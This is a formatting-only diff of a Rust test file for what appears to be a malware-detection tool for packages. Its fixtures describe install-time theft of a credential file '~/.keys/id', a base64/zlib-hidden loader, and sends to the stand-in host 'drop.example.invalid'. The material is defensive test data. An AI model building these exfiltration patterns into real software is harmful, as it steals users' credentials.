@@ -56,9 +56,16 @@ fn thief() -> (Facts, Match) {
     builder.event_mut(read).source = Some("file.credential".into());
     builder.event_mut(read).when = BTreeSet::from(["install".into()]);
     builder.arg(read, "path", &["file.path"], "'~/.keys/id'", text("~/.keys/id"));
-    let push = builder.event(top, "kit.push('https://drop.example.invalid/in', kept)", "kit.push", &["network.request"]);
+    let push =
+        builder.event(top, "kit.push('https://drop.example.invalid/in', kept)", "kit.push", &["network.request"]);
     builder.event_mut(push).when = BTreeSet::from(["install".into()]);
-    builder.arg(push, "url", &["network.destination"], "'https://drop.example.invalid/in'", text("https://drop.example.invalid/in"));
+    builder.arg(
+        push,
+        "url",
+        &["network.destination"],
+        "'https://drop.example.invalid/in'",
+        text("https://drop.example.invalid/in"),
+    );
     builder.arg(push, "data", &["network.send"], "kept)", builder::shaped("`kept`"));
     let path = builder.path(("file.credential", "kit.read", top, Some(read)), ("network.send", push, "data"), &[]);
     let evidence = vec![builder.facts.events[0].evidence, builder.facts.events[1].evidence];
@@ -139,7 +146,8 @@ fn every_positive_claim_has_a_place_and_every_id_resolves() {
         assert_eq!(path.steps.len(), path.words.len());
         assert!(path.steps.iter().all(|id| review.evidence(id).is_some()), "{path:?}");
     }
-    let fields: Vec<&str> = review.report.prose().iter().filter(|(_, text)| text.is_empty()).map(|(name, _)| *name).collect();
+    let fields: Vec<&str> =
+        review.report.prose().iter().filter(|(_, text)| text.is_empty()).map(|(name, _)| *name).collect();
     assert!(fields.is_empty(), "{fields:?}");
 }
 
@@ -185,10 +193,18 @@ fn a_proven_chain_convicts_and_the_prose_says_so() {
     for part in ["on install", "`drop.example.invalid`", "Do not install it"] {
         assert!(review.report.conclusion.contains(part), "{part}: {}", review.report.conclusion);
     }
-    assert!(review.report.anomalies.starts_with("The credential file `~/.keys/id` is sent"), "{}", review.report.anomalies);
+    assert!(
+        review.report.anomalies.starts_with("The credential file `~/.keys/id` is sent"),
+        "{}",
+        review.report.anomalies
+    );
     assert_eq!(review.report.report_number, 3);
     let claim = review.claims.iter().find(|claim| claim.kind == "behavior.malicious").unwrap();
-    assert!(review.scores.malware.iter().any(|change| change.claim == claim.id && change.change > 4.0), "{:?}", review.scores);
+    assert!(
+        review.scores.malware.iter().any(|change| change.claim == claim.id && change.change > 4.0),
+        "{:?}",
+        review.scores
+    );
     let sum = review.scores.malware_log_odds();
     assert!((1.0 / (1.0 + (-sum).exp()) - review.report.malware).abs() < 0.011, "{sum}");
 }
@@ -217,7 +233,12 @@ fn an_unproven_chain_has_no_floor() {
     facts.paths[0].proven = false;
     let open = reviewed_as(&file_info(), &facts, &catalog, vec![found]);
     assert!(open.report.malware < proven.report.malware, "{} {}", open.report.malware, proven.report.malware);
-    assert!(open.panel.critiques.iter().any(|critique| critique.by == "confirmation" && critique.effect == Effect::Weakened));
+    assert!(
+        open.panel
+            .critiques
+            .iter()
+            .any(|critique| critique.by == "confirmation" && critique.effect == Effect::Weakened)
+    );
 }
 
 #[test]
@@ -252,7 +273,11 @@ fn unread_code_makes_the_review_inconclusive() {
     let mut package = file_info();
     package.coverage = Coverage {
         files: 1,
-        unread: vec![Unread { file: "parcels/client.py".to_owned(), why: "longer than 50 MB".to_owned(), matters: true }],
+        unread: vec![Unread {
+            file: "parcels/client.py".to_owned(),
+            why: "longer than 50 MB".to_owned(),
+            matters: true,
+        }],
         ..Coverage::default()
     };
     let review = reviewed_as(&package, &client(), &[], Vec::new());
@@ -282,13 +307,18 @@ fn hidden_code_is_obfuscated_code() {
     let mut builder = Builder::new("run.py", "import pack\nexec(pack.open('eJwr'))\n");
     let run = builder.event(FunctionId(0), "exec(pack.open('eJwr'))", "exec", &["code.execute"]);
     let site = builder.facts.events[0].evidence;
-    let body = builder.layer(site, run, &["base64", "zlib"], "kit.push('https://drop.example.invalid/in')\nkit.stay()\n");
+    let body =
+        builder.layer(site, run, &["base64", "zlib"], "kit.push('https://drop.example.invalid/in')\nkit.stay()\n");
     let push = builder.event(body, "kit.push('https://drop.example.invalid/in')", "kit.push", &["network.request"]);
     builder.event(body, "kit.stay()", "kit.stay", &["registry.write"]);
     let _ = push;
     let review = reviewed(&builder.facts);
     assert!(review.report.obfuscated >= 0.5, "{:?}", review.report);
-    assert!(review.report.anomalies.contains("Hidden code: python is decoded by `base64` and `zlib`"), "{}", review.report.anomalies);
+    assert!(
+        review.report.anomalies.contains("Hidden code: python is decoded by `base64` and `zlib`"),
+        "{}",
+        review.report.anomalies
+    );
     assert!(!review.report.anomalies.contains("Nothing is hidden"), "{}", review.report.anomalies);
     assert!(review.report.sinks.contains("`kit.push()` (layer 1: 1)"), "{}", review.report.sinks);
     assert_eq!(review.layers[0].codings, ["base64", "zlib"]);
@@ -307,7 +337,8 @@ fn what_the_top_level_calls_is_an_effect_of_import() {
         let tell = builder.function("tell", &["text"]);
         let line = builder.event(top, "kit.Line()", "kit.Line", &[]);
         builder.event_mut(line).result = vec![3];
-        let push = builder.event(tell, "line.push('https://a.example.invalid', text)", "kit.Line.push", &["network.request"]);
+        let push =
+            builder.event(tell, "line.push('https://a.example.invalid', text)", "kit.Line.push", &["network.request"]);
         builder.arg(push, "url", &["network.destination"], "'https://a", text("https://a.example.invalid"));
         builder.event_mut(push).receiver = Some(ValueFact { tokens: vec![3], ..builder::shaped("`line`") });
         if called {
@@ -335,20 +366,32 @@ fn a_package_is_never_better_than_its_worst_file() {
         name: Some("parcels".to_owned()),
         version: Some("1.0".to_owned()),
         summary: Some("Deliveries.".to_owned()),
-        entry_points: vec![EntryPoint { when: "install".to_owned(), file: Some("setup.py".to_owned()), ..EntryPoint::default() }],
+        entry_points: vec![EntryPoint {
+            when: "install".to_owned(),
+            file: Some("setup.py".to_owned()),
+            ..EntryPoint::default()
+        }],
         ..PackageInfo::default()
     };
-    let review = reviewed_as(&package, &facts, &[behavior("exfiltration/credentials", Stance::Malicious, 0.97)], vec![found]);
+    let review =
+        reviewed_as(&package, &facts, &[behavior("exfiltration/credentials", Stance::Malicious, 0.97)], vec![found]);
     assert_eq!(review.files.len(), 2);
     let worst = review.files.iter().map(|file| file.report.malware).fold(0.0, f64::max);
     assert!(review.report.malware >= worst && worst > 0.5);
-    assert!(review.report.purpose.contains("`parcels` 1.0 says of itself: \"Deliveries\""), "{}", review.report.purpose);
+    assert!(
+        review.report.purpose.contains("`parcels` 1.0 says of itself: \"Deliveries\""),
+        "{}",
+        review.report.purpose
+    );
     assert!(review.report.analysis.contains("On install, `setup.py` runs"), "{}", review.report.analysis);
     let clean = review.files.iter().find(|file| file.file == "parcels/__init__.py").unwrap();
     assert_eq!(clean.verdict, Verdict::Benign);
     for file in &review.files {
         for claim in &file.claims {
-            assert!(claim.id.starts_with('f') && claim.evidence.iter().all(|id| review.evidence(id).is_some()), "{claim:?}");
+            assert!(
+                claim.id.starts_with('f') && claim.evidence.iter().all(|id| review.evidence(id).is_some()),
+                "{claim:?}"
+            );
         }
     }
 }
@@ -367,7 +410,11 @@ fn conclusions_and_verdicts_agree() {
             assert_eq!(malicious, review.report.conclusion.starts_with("Malicious"), "{}", review.report.conclusion);
             assert!(malicious || !review.report.conclusion.to_lowercase().contains("malicious"));
             for report in &review.panel.reports {
-                assert_eq!(report.report.malware >= 0.5, report.report.conclusion.starts_with("Malicious"), "{report:?}");
+                assert_eq!(
+                    report.report.malware >= 0.5,
+                    report.report.conclusion.starts_with("Malicious"),
+                    "{report:?}"
+                );
             }
             let right = if malicious { review.report.malware } else { 1.0 - review.report.malware };
             assert!(review.report.confidence <= right + 0.011, "{:?}", review.report);
